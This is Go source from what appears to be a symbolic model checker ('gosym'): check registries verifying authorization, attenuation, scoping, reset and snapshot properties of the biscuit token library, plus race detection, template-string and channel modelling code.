	}
	return m
}

var authzAssume = append([]string{
	"Datalog fragment of the harness family: unary predicates, ground integer facts, range-restricted rules of the shapes h(X)<-b(X) | h(X)<-b(X),b2(X) | h(c)<-b(X) with an optional comparison X<e, queries p(X) | p(c) | p(X),q(X) with optional X<e; predicate names symbolic over {a,b}, every integer constant symbolic 64-bit",
	"scenario families (listed per entry in evidence): in each family some components range over all templates while the others are fixed or absent; the product of all components is NOT explored jointly",
	"deadline never reached; default run limits (not binding at these sizes)",
}, stdAssumptions...)

func init() {
	checks = append(checks, &CheckSpec{
		Prop:    "C04",
		Harness: []string{"c01_chain.go", "authz_gen.go", "c04_authz.go"},
		Entries: []EntrySpec{
			{Pkg: "biscuit", Func: "VerifC04Verdict", Quick: sc("authFacts", 1, "authRule", 2, "authCheck", 2, "policies", 1), Thorough: sc("authFacts", 2, "authRule", 2, "authCheck", 3, "policies", 2), Covers: []string{"allow", "failed"}},
			{Pkg: "biscuit", Func: "VerifC04Verdict", Quick: sc("authFacts", 1, "blocks", 1, "blkFacts", 1, "blkRule", 2, "blkCheck", 1), Thorough: sc("authFacts", 1, "authRule", 1, "blocks", 1, "blkFacts", 1, "blkRule", 2, "blkCheck", 2), Covers: []string{"allow", "failed"}},
			{Pkg: "biscuit", Func: "VerifC04Verdict", Quick: sc("authFacts", 2, "policies", 2, "polMode", 2), Thorough: sc("authFacts", 2, "authRule", 1, "policies", 3, "polMode", 2), Covers: []string{"allow", "denied", "nomatch"}},
			{Pkg: "biscuit", Func: "VerifC04Verdict", Quick: sc("authFacts", 1, "azFacts", 1, "azRule", 2, "azCheck", 1), Thorough: sc("authFacts", 1, "azFacts", 1, "azRule", 2, "azCheck", 3, "policies", 2), Covers: []string{"allow", "failed"}},
		},
		Assumptions: authzAssume,
		Models:      []string{modelSig, modelCodec, modelCtx},
		Explanation: "NewVerifier/Add*/Authorize (with World.Run, QueryRule and symbol-table translation) executed symbolically on tokens built through the real builders; outcome class compared with an independent branch-free naive evaluator of the documented decision procedure",
		LevelText:   "Bounded symbolic model checking of Authorize against a reference decision procedure (naive closure at authority level, per-block closure, checks as disjunctions of queries, ordered policies, check failure taking precedence) over scenario families with symbolic names and constants.",
		LevelNote:   "Unary fragment and scenario families as listed; reference evaluator is part of the trusted base (written independently of combine/World).",
		DesignRef:   "DESIGN.md §6 authz family",
	})
}
