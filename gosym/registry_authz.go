package main

// scenario parameter sets for the authz harness family: which component varies over all templates (2/3),
// is fixed to the simplest template (1) or is absent (0)
func sc(kv ...interface{}) map[string]int {
	m := map[string]int{"authFacts": 1, "authRule": 0, "authCheck": 0, "blocks": 0, "blkFacts": 0, "blkRule": 0, "blkCheck": 0,
		"azFacts": 0, "azRule": 0, "azCheck": 0, "policies": 1, "polMode": 1, "polq": 1}
	for i := 0; i+1 < len(kv); i += 2 {
		m[kv[i].(string)] = kv[i+1].(int)
	}
	return m
}

var authzAssume = append([]string{
	"Datalog fragment of the harness family: unary predicates, ground integer facts, range-restricted rules of the shapes h(X)<-b(X) | h(X)<-b(X),b2(X) | h(c)<-b(X) with an optional comparison X<e, queries p(X) | p(c) | p(X),q(X) with optional X<e; predicate names symbolic over {a,b}, every integer constant symbolic 64-bit",
	"scenario families (listed per entry in evidence): in each family some components range over all templates while the others are fixed or absent; the product of all components is NOT explored jointly",
	"deadline never reached; default run limits (not binding at these sizes)",
}, stdAssumptions...)

func init() {
	checks = append(checks, &CheckSpec{
		Prop:    "C04",
		Harness: hb(),
		Entries: []EntrySpec{
			{Pkg: "biscuit", Func: "VerifC04Verdict", Quick: sc("authFacts", 1, "authRule", 2, "authCheck", 2, "policies", 1), Thorough: sc("authFacts", 1, "authRule", 2, "authCheck", 3, "policies", 1), Covers: []string{"allow", "failed"}},
			{Pkg: "biscuit", Func: "VerifC04Verdict", Quick: sc("authFacts", 1, "blocks", 1, "blkFacts", 1, "blkRule", 2, "blkCheck", 1), Thorough: sc("authFacts", 1, "blocks", 1, "blkFacts", 1, "blkRule", 2, "blkCheck", 2), Covers: []string{"allow", "failed"}},
			// two later blocks, each with one fact and one check (the two checks may coincide: what one block
			// established about a check says nothing about the same check in the next block's scope)
			{Pkg: "biscuit", Func: "VerifC04Verdict", Quick: sc("authFacts", 1, "blocks", 2, "blkFacts", 1, "blkCheck", 1), Thorough: sc("authFacts", 1, "blocks", 2, "blkFacts", 1, "blkCheck", 1), Covers: []string{"allow", "failed"}},
			{Pkg: "biscuit", Func: "VerifC04Verdict", Quick: sc("authFacts", 1, "azCheck", 1, "azCheck2", 1), Thorough: sc("authFacts", 1, "azFacts", 1, "azCheck", 2, "azCheck2", 1), Covers: []string{"allow", "failed"}},
			{Pkg: "biscuit", Func: "VerifC04Incremental", Quick: sc("authFacts", 1, "azRule", 1, "policies", 1, "polMode", 2), Thorough: sc("authFacts", 1, "azFacts", 1, "azRule", 2, "policies", 1, "polMode", 2), Covers: []string{"decided", "allow"}},
			// authority-level rules next to a block with facts and a check: they must not be applied to the block's facts
			{Pkg: "biscuit", Func: "VerifC04Verdict", Quick: sc("authFacts", 0, "authRule", 1, "azRule", 1, "blocks", 1, "blkFacts", 1, "blkCheck", 2), Thorough: sc("authFacts", 0, "authRule", 2, "azRule", 1, "blocks", 1, "blkFacts", 1, "blkCheck", 2), Covers: []string{"nomatch", "failed"}},
			{Pkg: "biscuit", Func: "VerifC04Verdict", Quick: sc("authFacts", 2, "policies", 2, "polMode", 1, "polq", 2), Thorough: sc("authFacts", 2, "policies", 2, "polMode", 2, "polq", 1), Covers: []string{"allow", "denied", "nomatch"}},
			{Pkg: "biscuit", Func: "VerifC04Verdict", Quick: sc("authFacts", 1, "azFacts", 1, "azRule", 2, "azCheck", 1), Thorough: sc("authFacts", 1, "azFacts", 1, "azRule", 2, "azCheck", 3, "policies", 2), Covers: []string{"allow", "failed"}},
		},
		Assumptions: authzAssume,
		Models:      []string{modelSig, modelCodec, modelCtx},
		Explanation: "NewVerifier/Add*/Authorize (with World.Run, QueryRule and symbol-table translation) executed symbolically on tokens built through the real builders; outcome class compared with an independent branch-free naive evaluator of the documented decision procedure",
		LevelText:   "Bounded symbolic model checking of Authorize against a reference decision procedure (naive closure at authority level, per-block closure, checks as disjunctions of queries, ordered policies, check failure taking precedence) over scenario families with symbolic names and constants; also for an authorizer that was already asked once and then given one more fact.",
		LevelNote:   "Unary fragment and scenario families as listed; reference evaluator is part of the trusted base (written independently of combine/World).",
		DesignRef:   "DESIGN.md §6 authz family",
	})
}

func sc2(base map[string]int, kv ...interface{}) map[string]int {
	m := map[string]int{}
	for k, v := range base {
		m[k] = v
	}
	for i := 0; i+1 < len(kv); i += 2 {
		m[kv[i].(string)] = kv[i+1].(int)
	}
	return m
}

func init() {
	relModels := []string{modelSig, modelCodec, modelCtx}
	checks = append(checks, &CheckSpec{
		Prop:    "C02",
		Harness: hb(),
		Entries: []EntrySpec{
			{Pkg: "biscuit", Func: "VerifC02Attenuation",
				Quick:    sc2(sc("authFacts", 1, "authCheck", 1), "newFacts", 1, "newRule", 2, "newCheck", 1),
				Thorough: sc2(sc("authFacts", 1, "authCheck", 1), "newFacts", 1, "newRule", 2, "newCheck", 2),
				Covers:   []string{"child-allowed", "child-refused"}},
			{Pkg: "biscuit", Func: "VerifC02Attenuation",
				Quick:    sc2(sc("authFacts", 1, "azCheck", 1, "policies", 2), "newFacts", 2, "newRule", 0, "newCheck", 0),
				Thorough: sc2(sc("authFacts", 1, "azCheck", 1, "policies", 2), "newFacts", 2, "newRule", 1, "newCheck", 0),
				Covers:   []string{"child-allowed", "child-refused"}},
			{Pkg: "biscuit", Func: "VerifC02Attenuation",
				Quick:    sc2(sc("authFacts", 3, "blocks", 1, "blkFacts", 1, "blkCheck", 1), "newFacts", 1, "newRule", 0, "newCheck", 0),
				Thorough: sc2(sc("authFacts", 3, "blocks", 1, "blkFacts", 1, "blkCheck", 1, "azFacts", 1), "newFacts", 2, "newRule", 0, "newCheck", 0),
				Covers:   []string{"child-allowed", "child-refused"}},
			{Pkg: "biscuit", Func: "VerifC02Dangling", Quick: p("arities", 1, "setsecond", 2, "polq", 1), Thorough: p("arities", 1, "setsecond", 2, "polq", 1), Covers: []string{"decided"}},
		},
		Assumptions: authzAssume, Models: relModels,
		Explanation: "two symbolic executions of Authorize share all symbolic content: token T extended with block B versus T; the solver searches for content where the child is authorized and the parent is not",
		LevelText:   "Bounded symbolic relational model checking: for every appended block within the scenario families (facts, any rule template, any check template, colliding names/constants chosen by the solver) and every authorizer content of the family, Authorize(T+B)=nil implies Authorize(T)=nil; also for hand-written parents one of whose constants is a symbol index that nothing resolves yet (the library must refuse them or be unaffected by the symbols an appended block brings).",
		LevelNote:   "Scenario families and unary fragment as listed in evidence.", DesignRef: "DESIGN.md §6 authz family",
	})
	checks = append(checks, &CheckSpec{
		Prop:    "C03",
		Harness: hb(),
		Entries: []EntrySpec{
			{Pkg: "biscuit", Func: "VerifC03Scoping",
				Quick:    sc2(sc("authFacts", 1, "blkCheck", 1), "xFacts", 1, "xRule", 2),
				Thorough: sc2(sc("authFacts", 1, "blkCheck", 2), "xFacts", 1, "xRule", 2),
				Covers:   []string{"compared"}},
			{Pkg: "biscuit", Func: "VerifC03Scoping",
				Quick:    sc2(sc("authFacts", 1, "blkCheck", 2), "xFacts", 0, "xRule", 2),
				Thorough: sc2(sc("authFacts", 2, "blkFacts", 1, "blkCheck", 2), "xFacts", 0, "xRule", 2),
				Covers:   []string{"compared"}},
			// padded authority: the evaluator's fact storage has spare capacity when the blocks are evaluated
			{Pkg: "biscuit", Func: "VerifC03Scoping",
				Quick:    sc2(sc("authFacts", 1, "authPad", 2, "blkFacts", 1, "blkCheck", 1), "xFacts", 1, "xRule", 0),
				Thorough: sc2(sc("authFacts", 1, "authPad", 4, "blkFacts", 1, "blkCheck", 2), "xFacts", 1, "xRule", 1),
				Covers:   []string{"compared"}},
		},
		Assumptions: authzAssume, Models: relModels,
		Explanation: "Authorize and Query executed on a token with and without a facts-and-rules-only block X (inserted before or after another block that carries a check; one family pads the authority block with concrete facts so that the evaluator's fact storage has spare capacity); outcomes and query result sets compared by the solver",
		LevelText:   "Bounded symbolic relational model checking: with X's facts and rules symbolic (names colliding with authority/authorizer/other-block names at the solver's choice), the authorization outcome class and the authorizer's query results are identical with and without X, at both positions.",
		LevelNote:   "Positive half (authority facts visible to every block) is covered by the C04 reference. Scenario families as listed.", DesignRef: "DESIGN.md §6 authz family",
	})
	checks = append(checks, &CheckSpec{
		Prop:    "C13",
		Harness: hb(),
		Entries: []EntrySpec{
			{Pkg: "biscuit", Func: "VerifC13Reset",
				Quick:    sc2(sc("authFacts", 1), "az1Facts", 1, "az1Rule", 0, "az1Check", 0, "az2Facts", 0, "az2Rule", 0, "az2Check", 1),
				Thorough: sc2(sc("authFacts", 1), "az1Facts", 1, "az1Rule", 1, "az1Check", 0, "az2Facts", 1, "az2Rule", 1, "az2Check", 1),
				Covers:   []string{"compared"}},
			// three rounds, two Resets; round 2 brings a fact that round 3 must not see
			{Pkg: "biscuit", Func: "VerifC13Reset",
				Quick:    sc2(sc("authFacts", 1, "thirdRound", 1), "az1Facts", 0, "az1Rule", 0, "az1Check", 0, "az2Facts", 1, "az2Rule", 0, "az2Check", 0),
				Thorough: sc2(sc("authFacts", 1, "thirdRound", 1), "az1Facts", 0, "az1Rule", 1, "az1Check", 0, "az2Facts", 1, "az2Rule", 0, "az2Check", 0),
				Covers:   []string{"compared"}},
			// round 1 leaves derived facts and a check behind; round 2 has a rule of its own
			{Pkg: "biscuit", Func: "VerifC13Reset",
				Quick:    sc2(sc("authFacts", 1), "az1Facts", 1, "az1Rule", 1, "az1Check", 0, "az2Facts", 0, "az2Rule", 0, "az2Check", 1),
				Thorough: sc2(sc("authFacts", 1), "az1Facts", 1, "az1Rule", 0, "az1Check", 1, "az2Facts", 0, "az2Rule", 1, "az2Check", 1),
				Covers:   []string{"compared"}},
		},
		Assumptions: authzAssume, Models: relModels,
		Explanation: "an authorizer is used for round 1 (authorize, query, run-limit error or a loaded snapshot; any outcome), Reset, then round 2 (through another snapshot when round 1 was one); a fresh authorizer gets round 2 only; outcomes and query results compared",
		LevelText:   "Bounded symbolic relational model checking of Reset: for all round-1 and round-2 contents of the scenario family the reused authorizer and a fresh one agree on the outcome class and on query results.",
		LevelNote:   "Two rounds; scenario families as listed.", DesignRef: "DESIGN.md §6 authz family",
	})
	// C09: add the behavioural-equivalence entry to the chain check
	for _, c := range checks {
		if c.Prop == "C09" {
			c.Harness = hb()
			c.Entries = append(c.Entries, EntrySpec{Pkg: "biscuit", Func: "VerifC09Equivalent",
				Quick:    sc("authFacts", 1, "authRule", 1, "authCheck", 1, "blocks", 1, "blkFacts", 1, "blkCheck", 1),
				Thorough: sc("authFacts", 1, "authRule", 1, "authCheck", 1, "blocks", 1, "blkFacts", 1, "blkCheck", 2, "azFacts", 1, "policies", 1),
				Covers:   []string{"compared"}})
			// the issuer built the token on top of a symbol table of its own
			c.Entries = append(c.Entries, EntrySpec{Pkg: "biscuit", Func: "VerifC09Equivalent",
				Quick:    sc("authFacts", 1, "blocks", 1, "blkFacts", 1, "blkCheck", 1, "baseSyms", 1),
				Thorough: sc("authFacts", 1, "authRule", 1, "blocks", 1, "blkFacts", 1, "blkCheck", 1, "baseSyms", 1),
				Covers:   []string{"compared"}})
		}
	}
}

func init() {
	relModels := []string{modelSig, modelCodec, modelCtx}
	hs := hb("authz_c12_c18.go")
	checks = append(checks, &CheckSpec{
		Prop:    "C12",
		Harness: hs,
		Entries: []EntrySpec{
			{Pkg: "biscuit", Func: "VerifC12Presentation",
				Quick:    p("authRule", 1, "authCheck", 0, "azRule", 1, "azRule2", 0, "qMode", 1, "policies", 1, "polMode", 1, "polq", 1),
				Thorough: p("authRule", 2, "authCheck", 0, "azRule", 1, "azRule2", 0, "qMode", 1, "policies", 1, "polMode", 1, "polq", 1),
				Covers:   []string{"compared"}},
			{Pkg: "biscuit", Func: "VerifC12RuleOrder", Quick: p("polq", 1), Thorough: p("polq", 1), Covers: []string{"compared"}},
			{Pkg: "biscuit", Func: "VerifC12TwinRules", Quick: p("polq", 1), Thorough: p("polq", 1), Covers: []string{"compared"}},
			{Pkg: "biscuit", Func: "VerifC12Twice",
				Quick:    p("authFacts", 1, "authPad", 2, "blkFacts", 1, "blkCheck", 1, "blk2Facts", 1, "polq", 1),
				Thorough: p("authFacts", 1, "authPad", 4, "blkFacts", 1, "blkCheck", 2, "blk2Facts", 1, "polq", 1),
				Covers:   []string{"compared"}},
		},
		Assumptions: authzAssume, Models: relModels,
		Explanation: "the same symbolic content is presented twice, the second time transformed (facts / rules / checks / queries permuted, variable renamed, a fact duplicated, or Authorize called twice on one authorizer); a token with two attenuation blocks and a padded authority block evaluated one, two and three times by one authorizer against a fresh one; outcome class and derived facts compared by the solver",
		LevelText:   "Bounded symbolic relational model checking: for each of nine presentation transformations, every order of a three-rule chain, and repeated evaluation of a token with two fact-adding blocks, and all symbolic names/constants of the scenario family, the outcome class and the queried fact sets are equal.",
		LevelNote:   "Go map iteration order is not involved in the evaluated code paths (slices only); permutations are transpositions of two elements.", DesignRef: "DESIGN.md §6 authz family",
	})
	checks = append(checks, &CheckSpec{
		Prop:    "C18",
		Harness: hs,
		Entries: []EntrySpec{
			{Pkg: "biscuit", Func: "VerifC18Snapshot",
				Quick:    sc("authFacts", 1, "azFacts", 1, "azRule", 1, "azCheck", 1, "policies", 2),
				Thorough: sc("authFacts", 1, "azFacts", 1, "azRule", 2, "azCheck", 1, "policies", 1),
				Covers:   []string{"compared"}},
			{Pkg: "biscuit", Func: "VerifC18Malformed", Quick: p("polq", 1), Thorough: p("polq", 1), Covers: []string{"loaded", "accepted"}},
			{Pkg: "biscuit", Func: "VerifC18RefusedAfterFailure", Quick: p("polq", 1), Thorough: p("polq", 1), Covers: []string{"evaluation-failed", "evaluation-succeeded"}},
			// the snapshot that is loaded is the second one taken from the same authorizer
			{Pkg: "biscuit", Func: "VerifC18Snapshot",
				Quick:    sc("authFacts", 1, "azFacts", 1, "azCheck", 1, "policies", 1, "secondSave", 1),
				Thorough: sc("authFacts", 1, "azFacts", 1, "azRule", 1, "azCheck", 1, "policies", 2, "secondSave", 1),
				Covers:   []string{"compared"}},
		},
		Assumptions: authzAssume, Models: relModels,
		Explanation: "SerializePolicies (once or twice) -> ideal codec -> LoadPolicies into a fresh authorizer for the same or another token, then Authorize and Query on both and on the original authorizer that was saved; refusal after evaluation",
		LevelText:   "Bounded symbolic relational model checking: the restored authorizer gives the same outcome class and query results as an authorizer loaded directly with the same content, for the same token and for a different token; SerializePolicies fails after Authorize and after Query, whether they succeeded or ended in a run-limit error, and still fails after a valid snapshot has then been loaded into the evaluated authorizer.",
		LevelNote:   "Message-level codec; malformed snapshot bytes are part of C10's hostile-message harness.", DesignRef: "DESIGN.md §6 authz family",
	})
}
