package main

func init() {
	checks = append(checks, &CheckSpec{
		Prop:    "C08",
		Harness: hb(),
		Entries: []EntrySpec{
			{Pkg: "biscuit", Func: "VerifC08Siblings", Quick: p(), Thorough: p(), Covers: []string{"done", "two-children"}},
			{Pkg: "biscuit", Func: "VerifC08BuilderReuse", Quick: p(), Thorough: p(), Covers: []string{"reused"}},
			{Pkg: "biscuit", Func: "VerifC08Envelope", Quick: p("maxblocks", 4), Thorough: p("maxblocks", 6), Covers: []string{"done"}},
		},
		Assumptions: append([]string{
			"histories: one parent token (0 or 1 block, fresh or reloaded from bytes) and two scripts run in EVERY interleaving: script A = create block builder, add fact, build block, append; script B = the same, or seal, reload, get-block-id, authorize, print",
			"all predicate names are symbolic one-byte strings, so whether the two siblings use the same or different symbols (and whether they collide with the parent's) is decided by the solver",
			"slice growth follows gc's growslice (nextslicecap + size classes) so that spare capacity shared between clones is modelled",
		}, stdAssumptions...),
		Models:      []string{modelSig, modelCodec, modelCtx},
		Explanation: "after every step of every interleaving, the resolved facts, symbol table, serialized form and revocation ids of every live token are compared with the snapshot taken at its creation; each child must contain exactly its own caller's fact; a builder used again after Build (built twice; built, filled, built again) and two builders of one parent whose blocks are appended in sequence never change what was built before, and whatever they build without an error holds exactly the caller's facts, in memory and after a reload",
		LevelText:   "Bounded symbolic model checking over all interleavings of two operation scripts on a shared parent: no operation changes the observable content of the parent, of an already built block, or of a sibling token; every derived token contains exactly what its own builder was given.",
		LevelNote:   "Two scripts, one fact per derived block; deeper families (grandchildren) are not explored. Writes by the caller into slices the API returned are not operations of the property and are not explored.",
		DesignRef:   "DESIGN.md §6 C08",
	})
}
