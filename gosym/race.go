package main

// Happens-before race detection over interpreter memory accesses (vector clocks).

import (
	"fmt"
	"strings"

	"golang.org/x/tools/go/ssa"
)

type accessRec struct {
	th    int
	clock int
	where string
}

type locState struct {
	lastWrite *accessRec
	reads     map[int]*accessRec
}

type raceLog struct {
	prop   string
	locs   map[string]*locState
	chanVC map[*ChanV][]int
	races  []string
	seen   map[string]bool
	active bool
}

func (ex *Exec) enableRace(prop string) {
	ex.raceLog = &raceLog{prop: prop, locs: map[string]*locState{}, chanVC: map[*ChanV][]int{}, seen: map[string]bool{}, active: true}
	for _, th := range ex.threads {
		th.vc = make([]int, len(ex.threads))
		th.vc[th.id] = 1
	}
}

func vcGet(vc []int, i int) int {
	if i < len(vc) {
		return vc[i]
	}
	return 0
}

func vcJoin(a, b []int) []int {
	n := len(a)
	if len(b) > n {
		n = len(b)
	}
	out := make([]int, n)
	for i := range out {
		x, y := vcGet(a, i), vcGet(b, i)
		if x > y {
			out[i] = x
		} else {
			out[i] = y
		}
	}
	return out
}

func (th *Thread) tick() {
	for len(th.vc) <= th.id {
		th.vc = append(th.vc, 0)
	}
	th.vc[th.id]++
}

func (rl *raceLog) fork(parent, child *Thread) {
	if parent != nil {
		child.vc = vcJoin(parent.vc, nil)
		parent.tick()
	}
	for len(child.vc) <= child.id {
		child.vc = append(child.vc, 0)
	}
	child.vc[child.id] = 1
}

func (rl *raceLog) threadDone(th *Thread) {}

// sync: from happens-before to (rendezvous / close -> receive)
func (rl *raceLog) sync(from, to *Thread) {
	to.vc = vcJoin(to.vc, from.vc)
	from.tick()
	to.tick()
}

func (rl *raceLog) release(th *Thread, c *ChanV) {
	rl.chanVC[c] = vcJoin(rl.chanVC[c], th.vc)
	th.tick()
}

func (rl *raceLog) acquire(th *Thread, c *ChanV) {
	th.vc = vcJoin(th.vc, rl.chanVC[c])
	th.tick()
}

func where(instr ssa.Instruction) string {
	if instr == nil {
		return "builtin"
	}
	fn := instr.Parent()
	pos := fn.Prog.Fset.Position(instr.Pos())
	file := pos.Filename
	if i := strings.LastIndex(file, "/"); i >= 0 {
		file = file[i+1:]
	}
	return fmt.Sprintf("%s (%s:%d)", fn.String(), file, pos.Line)
}

func (rl *raceLog) record(th *Thread, key string, write bool, w string) {
	ls := rl.locs[key]
	if ls == nil {
		ls = &locState{reads: map[int]*accessRec{}}
		rl.locs[key] = ls
	}
	me := &accessRec{th: th.id, clock: vcGet(th.vc, th.id), where: w}
	hb := func(a *accessRec) bool { return a.th == th.id || a.clock <= vcGet(th.vc, a.th) }
	if ls.lastWrite != nil && !hb(ls.lastWrite) {
		rl.report(key, ls.lastWrite, me, "write", map[bool]string{true: "write", false: "read"}[write])
	}
	if write {
		for _, r := range ls.reads {
			if !hb(r) {
				rl.report(key, r, me, "read", "write")
			}
		}
		ls.lastWrite = me
		ls.reads = map[int]*accessRec{}
	} else {
		ls.reads[th.id] = me
	}
}

func (rl *raceLog) report(key string, a, b *accessRec, ka, kb string) {
	sites := []string{ka + "@" + a.where, kb + "@" + b.where}
	if sites[0] > sites[1] {
		sites[0], sites[1] = sites[1], sites[0]
	}
	sig := sites[0] + " || " + sites[1]
	if rl.seen[sig] {
		return
	}
	rl.seen[sig] = true
	rl.races = append(rl.races, sig)
}

func leafKeys(prefix string, v Value, out *[]string) {
	switch a := v.(type) {
	case StructV:
		for i, f := range a.f {
			leafKeys(fmt.Sprintf("%s.%d", prefix, i), f, out)
		}
	case ArrayV:
		for i, e := range a.e {
			leafKeys(fmt.Sprintf("%s.%d", prefix, i), e, out)
		}
	default:
		*out = append(*out, prefix)
	}
}

func (ex *Exec) access(th *Thread, p *Pointer, write bool, instr ssa.Instruction) {
	rl := ex.raceLog
	if rl == nil || !rl.active || th == nil {
		return
	}
	var sb strings.Builder
	fmt.Fprintf(&sb, "o%d", p.obj.id)
	for _, i := range p.path {
		fmt.Fprintf(&sb, ".%d", i)
	}
	var keys []string
	leafKeys(sb.String(), p.raw(), &keys)
	w := where(instr)
	for _, k := range keys {
		rl.record(th, k, write, w)
	}
}

func (ex *Exec) accessSlice(th *Thread, s Slice, lo, hi int, write bool, instr ssa.Instruction) {
	rl := ex.raceLog
	if rl == nil || !rl.active || th == nil || s.base == nil {
		return
	}
	w := where(instr)
	if instr == nil && ex.curInstrWhere != "" {
		w = ex.curInstrWhere
	}
	for i := lo; i < hi; i++ {
		ex.accessAt(th, s.base.sub(s.off+i), write, w)
	}
}

func (ex *Exec) accessAt(th *Thread, p *Pointer, write bool, w string) {
	var sb strings.Builder
	fmt.Fprintf(&sb, "o%d", p.obj.id)
	for _, i := range p.path {
		fmt.Fprintf(&sb, ".%d", i)
	}
	var keys []string
	leafKeys(sb.String(), p.raw(), &keys)
	for _, k := range keys {
		ex.raceLog.record(th, k, write, w)
	}
}

func (ex *Exec) mapAccess(th *Thread, m *MapV, write bool, instr ssa.Instruction) {
	rl := ex.raceLog
	if rl == nil || !rl.active || th == nil || m == nil {
		return
	}
	rl.record(th, fmt.Sprintf("map%d", m.id), write, where(instr))
}
