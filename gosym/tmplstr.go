package main

// Template strings: the result of formatting symbolic integers with %d into a concrete skeleton,
// e.g. "<invalid symbol " + dec(t) + ">". They are opaque for most purposes (no length, no bytes) but
// equality is decidable: against another template with the same skeleton (integers equal) and
// against a concrete string (match the skeleton and parse the integers).

import (
	"math/big"
	"regexp"
	"strings"
)

type strTemplate struct {
	lits   []string // len(ints)+1 literal segments
	ints   []*Term
	signed []bool
}

func (ex *Exec) tmplConcat(a, b Value) (Value, bool) {
	ta, aok := tmplOf(a)
	tb, bok := tmplOf(b)
	if !aok || !bok {
		return nil, false
	}
	if len(ta.ints) == 0 && len(tb.ints) == 0 {
		return ta.lits[0] + tb.lits[0], true
	}
	out := &strTemplate{}
	out.lits = append(out.lits, ta.lits[:len(ta.lits)-1]...)
	out.lits = append(out.lits, ta.lits[len(ta.lits)-1]+tb.lits[0])
	out.lits = append(out.lits, tb.lits[1:]...)
	out.ints = append(append([]*Term{}, ta.ints...), tb.ints...)
	out.signed = append(append([]bool{}, ta.signed...), tb.signed...)
	return &SymStr{opaque: true, tmpl: out}, true
}

func tmplOf(v Value) (*strTemplate, bool) {
	switch s := v.(type) {
	case string:
		return &strTemplate{lits: []string{s}}, true
	case *SymStr:
		if s.tmpl != nil {
			return s.tmpl, true
		}
	}
	return nil, false
}

// tmplEq decides equality when at least one side is a template string. ok=false: undecidable here.
func (ex *Exec) tmplEq(a, b Value) (Value, bool) {
	ta, aok := tmplOf(a)
	tb, bok := tmplOf(b)
	// a template against a symbolic string of known length: unequal when the template cannot be that short
	if aok && !bok {
		if s, is := b.(*SymStr); is && !s.opaque && len(s.b) < ta.minLen() {
			return false, true
		}
	}
	if bok && !aok {
		if s, is := a.(*SymStr); is && !s.opaque && len(s.b) < tb.minLen() {
			return false, true
		}
	}
	if !aok || !bok {
		return nil, false
	}
	if len(ta.ints) == 0 {
		ta, tb = tb, ta
	}
	if len(tb.ints) == 0 {
		// template vs concrete string
		c := tb.lits[0]
		var sb strings.Builder
		sb.WriteString("^")
		for i, l := range ta.lits {
			sb.WriteString(regexp.QuoteMeta(l))
			if i < len(ta.ints) {
				sb.WriteString(`(-?[0-9]+)`)
			}
		}
		sb.WriteString("$")
		m := regexp.MustCompile(sb.String()).FindStringSubmatch(c)
		if m == nil {
			return false, true
		}
		var res Value = true
		for i, t := range ta.ints {
			d := m[i+1]
			n, ok := new(big.Int).SetString(d, 10)
			if !ok || n.String() != d { // not the canonical decimal form: cannot be produced by %d
				return false, true
			}
			if !ta.signed[i] && n.Sign() < 0 {
				return false, true
			}
			lim := new(big.Int).Lsh(big.NewInt(1), uint(t.w))
			if ta.signed[i] {
				half := new(big.Int).Rsh(lim, 1)
				if n.Cmp(half) >= 0 || n.Cmp(new(big.Int).Neg(half)) < 0 {
					return false, true
				}
			} else if n.Cmp(lim) >= 0 {
				return false, true
			}
			res = ex.bAnd(res, ex.fromTerm(ex.ts.Eq(t, ex.ts.BigConst(fromSigned(n, t.w), t.w))))
		}
		return res, true
	}
	// template vs template
	if len(ta.lits) == len(tb.lits) {
		same := true
		for i := range ta.lits {
			if ta.lits[i] != tb.lits[i] {
				same = false
			}
		}
		for i := range ta.ints {
			if ta.ints[i].w != tb.ints[i].w || ta.signed[i] != tb.signed[i] {
				same = false
			}
		}
		if same {
			var res Value = true
			for i := range ta.ints {
				res = ex.bAnd(res, ex.fromTerm(ex.ts.Eq(ta.ints[i], tb.ints[i])))
			}
			return res, true
		}
	}
	// different skeletons: unequal when the leading literals are incompatible
	p, q := ta.lits[0], tb.lits[0]
	if !strings.HasPrefix(p, q) && !strings.HasPrefix(q, p) {
		return false, true
	}
	return nil, false
}

// fmtIntTemplate: a symbolic integer formatted with plain %d becomes a one-hole template string.
func (ex *Exec) fmtIntTemplate(verb byte, spec string, a Value) (Value, bool) {
	if verb != 'd' || spec != "%d" {
		return nil, false
	}
	itf, ok := a.(Iface)
	if !ok || itf.T == nil {
		return nil, false
	}
	t, isTerm := itf.V.(*Term)
	if !isTerm {
		return nil, false
	}
	_, signed, isInt := intWidth(itf.T)
	if !isInt {
		return nil, false
	}
	return &SymStr{opaque: true, tmpl: &strTemplate{lits: []string{"", ""}, ints: []*Term{t}, signed: []bool{signed}}}, true
}

func (t *strTemplate) minLen() int {
	n := len(t.ints)
	for _, l := range t.lits {
		n += len(l)
	}
	return n
}
