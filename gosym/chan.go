package main

// Channels, select and the symbolic timer.

import (
	"fmt"
	"go/types"

	"golang.org/x/tools/go/ssa"
)

type ChanV struct {
	id     int
	cap    int
	buf    []Value
	closed bool
	recvq  []*waiter
	sendq  []*waiter
	elemT  types.Type
	// timer channel: becomes ready (closed) at a nondeterministic, monotone moment
	timer     bool
	cancelled bool
	vc        []int // happens-before clock carried by the channel (close / buffered)
}

type selectState struct {
	done    bool
	chosen  int
	recvVal Value
	recvOk  bool
	cases   []selCase
	th      *Thread
}

type waiter struct {
	sel     *selectState
	caseIdx int
	val     Value // value to send
	vc      []int
}

type selCase struct {
	ch   *ChanV
	send bool
	val  Value
}

func (ex *Exec) newChan(capacity int, et types.Type) *ChanV {
	ex.nchan++
	return &ChanV{id: ex.nchan, cap: capacity, elemT: et}
}

func (ex *Exec) newTimerChan(et types.Type) *ChanV {
	c := ex.newChan(0, et)
	c.timer = true
	return c
}

func (c *ChanV) String() string { return fmt.Sprintf("chan#%d", c.id) }

func cleanQ(q []*waiter) []*waiter {
	out := q[:0]
	for _, w := range q {
		if !w.sel.done {
			out = append(out, w)
		}
	}
	return out
}

// timerPoll: an unfired timer channel is polled; decide whether the deadline has passed.
func (ex *Exec) timerPoll(c *ChanV) {
	if !c.timer || c.closed {
		return
	}
	if ex.timerMode == 1 {
		if ex.choose("timer", 2) == 1 {
			ex.fireTimer(c)
		}
	}
}

func (ex *Exec) fireTimer(c *ChanV) {
	if c.closed {
		return
	}
	c.closed = true
	c.recvq = cleanQ(c.recvq)
	for _, w := range c.recvq {
		if w.sel.done {
			continue
		}
		w.sel.done = true
		w.sel.chosen = w.caseIdx
		w.sel.recvVal = zero(c.elemT)
		w.sel.recvOk = false
		ex.makeRunnable(w.sel.th)
	}
	c.recvq = nil
}
